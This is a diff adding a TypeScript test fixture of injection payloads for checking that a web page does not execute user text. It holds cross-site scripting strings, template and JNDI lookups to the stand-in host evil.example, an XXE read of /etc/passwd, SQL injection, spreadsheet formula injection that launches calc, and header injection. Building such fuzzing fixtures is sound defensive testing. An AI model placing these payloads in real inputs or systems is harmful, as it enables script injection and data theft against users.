@@ -1,0 +1,375 @@
+/**
+ * Texts that would be more than text on a page that is careless with them, by class. Those that are scripts call
+ * `pwn()`, open a dialog or ask `evil.example` for something, so that a test can tell whether one has run.
+ */
+
+/** What a payload calls; a test puts it on the window. */
+export const CALLED = 'pwn';
+/** Whom a payload asks; nobody is there. */
+export const ASKED = 'evil.example';
+
+const TAGS = [
+  '<script>pwn()</script>',
+  '<SCRIPT>pwn()</SCRIPT>',
+  '<script src=//evil.example/x.js></script>',
+  '<script type=module>pwn()</script>',
+  '<scr<script>ipt>pwn()</scr</script>ipt>',
+  '<script/xss>pwn()</script>',
+  '<script>/*',
+  '*/pwn()</script>',
+  '</script><script>pwn()</script>',
+  '<iframe srcdoc="<script>parent.pwn()</script>">',
+  '<iframe src=javascript:parent.pwn()>',
+  '<object data=javascript:pwn()>',
+  '<embed src=javascript:pwn()>',
+  '<base href=//evil.example/>',
+  '<meta http-equiv=refresh content="0;url=//evil.example">',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<link rel=modulepreload href=//evil.example/x.js>',
+  '<form action=//evil.example><button>Sign in</button></form>',
+  '<portal src=//evil.example></portal>',
+  '<template><script>pwn()</script></template>',
+  '<div><slot name=x><script>pwn()</script></slot>',
+  '<plaintext>',
+  '<frameset onload=pwn()>',
+  '<body onload=pwn()>',
+  '<html onclick=pwn()>',
+  '<title></title><script>pwn()</script>',
+  '</title><img src=x onerror=pwn()>',
+  '</textarea><script>pwn()</script>',
+  '</style><script>pwn()</script>',
+  '</noscript><script>pwn()</script>',
+  '<x-evil onclick=pwn()>',
+  '<h1>Sign in again</h1>',
+];
+
+/** One handler on one element, in the spellings that filters overlook. */
+const HANDLERS = [
+  'img src=x onerror',
+  'IMG SRC=x ONERROR',
+  'img/src=x/onerror',
+  'img\tsrc=x\tonerror',
+  'img\nsrc=x\nonerror',
+  'image src=x onerror',
+  'svg onload',
+  'svg/onload',
+  'video src=x onerror',
+  'video><source onerror',
+  'audio src=x onerror',
+  'input autofocus onfocus',
+  'select autofocus onfocus',
+  'textarea autofocus onfocus',
+  'a tabindex=1 autofocus onfocus',
+  'details open ontoggle',
+  'marquee onstart',
+  'div onpointerover',
+  'div contenteditable autofocus onfocus',
+  'p style=animation:x onanimationstart',
+  'p onmouseover',
+  'object onerror',
+  'iframe onload',
+  'link rel=stylesheet href=x onerror',
+  'dialog open onclose',
+  'div popover id=p onbeforetoggle',
+  'button popovertarget=p onclick',
+  'input type=image src=x onerror',
+  'track onerror',
+  'body onhashchange',
+  'body onpageshow',
+  'body onmessage',
+].flatMap((start) => [`<${start}=pwn()>`, `<${start}="pwn()" x="`]);
+
+const ATTRIBUTES = [
+  '"><script>pwn()</script>',
+  "'><script>pwn()</script>",
+  '" onmouseover="pwn()',
+  "' onmouseover='pwn()",
+  '` onmouseover=`pwn()',
+  '" autofocus onfocus=pwn() x="',
+  "' autofocus onfocus=pwn() x='",
+  ' autofocus onfocus=pwn()',
+  '"><img src=x onerror=pwn()>',
+  '\'"><svg/onload=pwn()>',
+  '" style="position:fixed;inset:0',
+  '" href="javascript:pwn()',
+  '" id="root',
+  '" class="mantine-Modal-overlay',
+  '" data-ready="true',
+  '" aria-hidden="true',
+  '" formaction="//evil.example',
+  '" srcdoc="<script>pwn()</script>',
+  '"></main><script>pwn()</script>',
+  '--><script>pwn()</script>',
+  ']]><script>pwn()</script>',
+  '\\"><script>pwn()</script>',
+];
+
+/** Where a text becomes an address. */
+const ADDRESSES = [
+  'javascript:pwn()',
+  'JaVaScRiPt:pwn()',
+  'java\tscript:pwn()',
+  'java\nscript:pwn()',
+  '\u0001javascript:pwn()',
+  ' javascript:pwn()',
+  'javascript://%0apwn()',
+  'javascript:void(pwn())//http://a',
+  'data:text/html,<script>opener.pwn()</script>',
+  'data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==',
+  'data:image/svg+xml,<svg onload="pwn()" />',
+  'vbscript:pwn()',
+  'blob:https://evil.example/1',
+  'view-source:javascript:pwn()',
+  '//evil.example/x',
+  '\\\\evil.example\\x',
+  '/\\evil.example',
+  'https://evil.example@127.0.0.1/',
+  'https://evil.example/',
+  '../../../../evil.example',
+  '/api/v1/users',
+  '?open=x&state=<script>pwn()</script>',
+  '#<img src=x onerror=pwn()>',
+  '%3Cscript%3Epwn()%3C/script%3E',
+  '%253Cscript%253Epwn()%253C/script%253E',
+  '[x](javascript:pwn())',
+  '%00<script>pwn()</script>',
+];
+
+/** Where a text becomes an expression of a template, of a translation or of a program. */
+const EXPRESSIONS = [
+  '{{constructor.constructor("pwn()")()}}',
+  '{{7*7}}',
+  '{{{x}}}',
+  '{{$on.constructor("pwn()")()}}',
+  '${pwn()}',
+  '#{pwn()}',
+  '<%= pwn() %>',
+  '*{pwn()}',
+  '@{pwn()}',
+  '[[${pwn()}]]',
+  '$t(common:loading)',
+  '$t(x, {"interpolation":{"escapeValue":false}})',
+  '{{order}} {{count}}',
+  '{{- order}}',
+  '<1>x</1>',
+  '<0/>',
+  '${jndi:ldap://evil.example/x}',
+  '$(pwn)',
+  '`pwn()`',
+  "');pwn();//",
+  '");pwn();//',
+  '`);pwn();//',
+  "';pwn();'",
+  '";pwn();"',
+  ';pwn();//',
+  '\\u0027;pwn()//',
+  '\\x3cscript\\x3epwn()\\x3c/script\\x3e',
+  '\u2028pwn()\u2029',
+  '__proto__',
+  'constructor',
+  'toString',
+  'hasOwnProperty',
+  "'; DROP TABLE problems; --",
+  "' OR '1'='1",
+];
+
+const VECTORS = [
+  '<svg><script>pwn()</script></svg>',
+  '<svg><script href=data:,pwn() />',
+  '<svg><script xlink:href=data:,pwn() />',
+  '<svg><animate onbegin=pwn() attributeName=x>',
+  '<svg><set onbegin=pwn() attributeName=x>',
+  '<svg><a xlink:href=javascript:pwn()><text y=9>x',
+  '<svg><use href="data:image/svg+xml,x#x" />',
+  '<svg><foreignObject><script>pwn()</script>',
+  '<svg><image href=x onerror=pwn()>',
+  '<svg><style>*{background:url(//evil.example)}',
+  '<svg><title><script>pwn()</script>',
+  '<svg><desc><img src=x onerror=pwn()>',
+  '<svg><animate attributeName=href values=javascript:pwn()>',
+  '<svg viewBox="0 0 9999 9999" width=9999 height=9999>',
+  '<svg><handler type=text/javascript>pwn()</handler>',
+  '<math><maction actiontype="statusline#x" href="javascript:pwn()">',
+  '<math href="javascript:pwn()">x</math>',
+  '<math><annotation-xml encoding=text/html><script>pwn()',
+  '<?xml version="1.0"?><x xmlns:s="s" />',
+  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
+  '<?xml-stylesheet href="javascript:pwn()"?>',
+  '<![CDATA[<script>pwn()</script>]]>',
+];
+
+/** Those that only become a script when what was made of them is read once more. */
+const TWICE = [
+  '&lt;script&gt;pwn()&lt;/script&gt;',
+  '&amp;lt;script&amp;gt;pwn()',
+  '&#60;script&#62;pwn()&#60;/script&#62;',
+  '&#x3c;img src=x onerror=pwn()&#x3e;',
+  '&#0000060script>pwn()</script>',
+  '&lt&#59;script>pwn()',
+  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
+  '<math><mtext><table><mglyph><style><img src=x onerror=pwn()>',
+  '<svg></p><style><a id="</style><img src=x onerror=pwn()>">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>',
+  '<select><template><img src=x onerror=pwn()></template>',
+  '<table><a href=javascript:pwn()>x</table>',
+  '<p><svg><title><p><style><img src=x onerror=pwn()>',
+  '<xmp><p title="</xmp><svg/onload=pwn()>">',
+  '<listing>&ltimg src=x onerror=pwn()&gt</listing>',
+  '<textarea><img title="</textarea><img src=x onerror=pwn()>">',
+  '<!--<img src="--><img src=x onerror=pwn()//">',
+  '<!--><img src=x onerror=pwn()>-->',
+  '<!-- --!><img src=x onerror=pwn()>',
+  '<![><img src=x onerror=pwn()>',
+  '<//><img src=x onerror=pwn()>',
+  '<a/href="&#106;avascript:pwn()">x',
+  '<a href="java&Tab;script:pwn()">x</a>',
+  '<a href="javascript&colon;pwn()">x</a>',
+  '<b id=x><b name=x><b id=location>',
+  '<img name=getElementById>',
+];
+
+const STYLES = [
+  '<style>*{display:none}</style>',
+  '<style>@import "//evil.example/x.css"</style>',
+  '<p style="position:fixed;inset:0;z-index:9">',
+  '<p style=background:url(//evil.example)>',
+  '</style><style>body{visibility:hidden}</style>',
+  'expression(pwn())',
+  'url(javascript:pwn())',
+  'url(//evil.example/x)',
+  '}*{display:none}',
+  ';position:fixed;top:0;left:0;width:100vw;height:100vh',
+  'var(--x);display:none',
+  '<style>a[href^="/"]{color:red}</style>',
+  '\\3c script\\3e pwn()',
+  '@import//evil.example;',
+];
+
+/** Where a text stands in JSON, in a line of a log, in an address or in a table of a spreadsheet. */
+const BREAKERS = [
+  '"}',
+  '"},"admin":true,"x":{"',
+  '{"__proto__":{"admin":true}}',
+  '\\',
+  '\\"',
+  '\\\\"',
+  '\\u0000',
+  '\\ud800',
+  '</script>{"a":1}',
+  '"]],',
+  "','','');--",
+  'null',
+  'NaN',
+  'undefined',
+  '[object Object]',
+  'line one\nline two',
+  'line one\r\nSet-Cookie: a=b',
+  '\u001b[31mred\u001b[0m',
+  '%0d%0aLocation: //evil.example',
+  '=1+1',
+  '=HYPERLINK("//evil.example","x")',
+  "=cmd|' /C calc'!A0",
+  '@SUM(1,1)',
+  '+1+1',
+  '-1+1',
+  '\t=1+1',
+  '＝1+1',
+  '＋1+1',
+  '\u3000=1',
+  '"=1+1"',
+  ',=1+1',
+  ';=1+1',
+  '| a | b |',
+  '**bold** _x_ <b>y</b>',
+  '![x](//evil.example/x.png)',
+  '<https://evil.example>',
+  '```html\n<script>pwn()</script>\n```',
+  '# heading\n---',
+];
+
+/** Letters that are not what they look like, have no width, turn the direction or pile up. */
+const LETTERS = [
+  '\u202egnp.exe\u202c',
+  '\u202e<script>pwn()</script>',
+  '\u2066\u2067\u2068\u2069',
+  '\u200f\u200e',
+  'مرحبا <b>x</b> שלום',
+  'א'.repeat(60),
+  'ＳＣＲＩＰＴ ＜script＞pwn()＜/script＞',
+  '﹤img src=x onerror=pwn()﹥',
+  'ʺ＞＜ｓｃｒｉｐｔ＞',
+  '\u00bcscript\u00bepwn()\u00bc/script\u00be',
+  'a\u200bb\u200cc\u200dd\ufeffe',
+  '\ufeff<script>pwn()</script>',
+  'Z\u0351\u036b\u0343\u0336a\u0321\u034a\u0360l\u0337g\u035ao',
+  `x${'\u0301'.repeat(50)}`,
+  '👨‍👩‍👧‍👦🏳️‍🌈',
+  '\u{e0041}\u{e0042}\u{e0043}',
+  'раураl.соm',
+  '＜/title＞',
+  '\u00a0\u00a0\u00a0x\u00a0',
+  '\u2003\u2003',
+  '𝒂𝒅𝒎𝒊𝒏',
+  '，。、；：？！…—·「」',
+  '\u0130\u0131ſ<ſcript>pwn()</ſcript>',
+  '<İMG src=x onerror=pwn()>',
+  '\ufffd\ufffd',
+];
+
+/** Without a space to break at; so wide that a page which does not break them gets wider. */
+const LONG = [
+  'x'.repeat(64),
+  'W'.repeat(128),
+  'x'.repeat(500),
+  '漢'.repeat(120),
+  '<'.repeat(128),
+  '&'.repeat(128),
+  `${'<b>'.repeat(40)}`,
+  `${'/'.repeat(100)}x`,
+  `https://${'a'.repeat(100)}.example/`,
+  `<img src=x onerror=pwn() alt=${'x'.repeat(90)}>`,
+  '\u00a0'.repeat(100),
+  '_'.repeat(128),
+  '0'.repeat(100),
+  'مرحبا'.repeat(24),
+  `${'a\u2060'.repeat(60)}`,
+  '-'.repeat(120),
+  `${'W'.repeat(60)}<script>`,
+  '🏳️‍🌈'.repeat(20),
+];
+
+export const PAYLOAD_CLASSES = {
+  tags: TAGS,
+  handlers: HANDLERS,
+  attributes: ATTRIBUTES,
+  addresses: ADDRESSES,
+  expressions: EXPRESSIONS,
+  vectors: VECTORS,
+  twice: TWICE,
+  styles: STYLES,
+  breakers: BREAKERS,
+  letters: LETTERS,
+  long: LONG,
+} as const;
+
+export const PAYLOADS: readonly string[] = Object.values(PAYLOAD_CLASSES).flat();
+
+/** As much as a field takes, never half a letter. */
+export function cut(text: string, lengthMax: number): string {
+  return text.slice(0, lengthMax).replace(/[\uD800-\uDBFF]$/, '');
+}
+
+/**
+ * All of them in as few texts as a field's length allows, so that a field which is costly to fill has had them all;
+ * one that is longer than the field is cut.
+ */
+export function packed(lengthMax: number): string[] {
+  const texts: string[] = [];
+  for (const payload of PAYLOADS) {
+    const piece = cut(payload, lengthMax);
+    const last = texts.at(-1);
+    if (last === undefined || last.length + piece.length > lengthMax) texts.push(piece);
+    else texts[texts.length - 1] = `${last}${piece}`;
+  }
+  return texts;
+}
